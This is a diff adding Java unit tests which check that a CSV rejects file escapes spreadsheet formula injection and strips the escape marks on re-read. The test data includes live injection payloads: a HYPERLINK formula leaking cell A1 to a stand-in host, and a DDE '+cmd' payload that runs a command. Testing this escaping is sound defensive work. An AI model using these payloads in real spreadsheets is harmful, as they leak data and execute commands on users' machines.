@@ -41,6 +41,31 @@ class CsvRejectsTest {
     }
 
     @Test
+    void cellsASpreadsheetWouldRunAsFormulasAreMarkedTheHeaderToo() throws Exception {
+        Path file = dir.resolve("r.csv");
+        CsvRejects rejects = new CsvRejects(file, List.of("=id", "title", "value"), ',');
+        rejects.add(2, "not found", List.of("=HYPERLINK(\"http://x.example/?leak=\"&A1,\"click\")", "+cmd|' /C calc'!A0",
+                "@SUM(1+1)"));
+        rejects.add(3, "not a number", List.of("-2+3", "\tTab", "\rCR"));
+        rejects.add(4, "fine", List.of("31", "Cost = 5", "'quoted"));
+        rejects.close();
+        assertEquals("line,reason,'=id,title,value\r\n"
+                + "2,not found,\"'=HYPERLINK(\"\"http://x.example/?leak=\"\"&A1,\"\"click\"\")\",'+cmd|' /C calc'!A0,'@SUM(1+1)\r\n"
+                + "3,not a number,'-2+3,'\tTab,\"'\rCR\"\r\n"
+                + "4,fine,31,Cost = 5,'quoted\r\n", Files.readString(file));
+    }
+
+    @Test
+    void aRejectsFileDroppedAgainIsReadWithoutTheMarks() throws Exception {
+        List<CsvResult> results = CsvMeasurementsTest.read("line,reason,type,id,at,value\r\n"
+                + "2,not a number,kpi,31,2026-10-01,'-2.5\r\n", CsvOptions.defaults());
+        CsvResult.Row row = org.junit.jupiter.api.Assertions.assertInstanceOf(CsvResult.Row.class, results.get(0),
+                results::toString);
+        assertEquals(new java.math.BigDecimal("-2.5"), row.measurement().value());
+        assertEquals(List.of("-2", "'x", "=y"), CsvRejects.unmarked(List.of("'-2", "'x", "'=y")));
+    }
+
+    @Test
     void nothingRejectedMeansNoFileAndLeftoversAreRemoved() throws Exception {
         Path file = dir.resolve("r.csv");
         Files.writeString(file, "from a run that crashed");
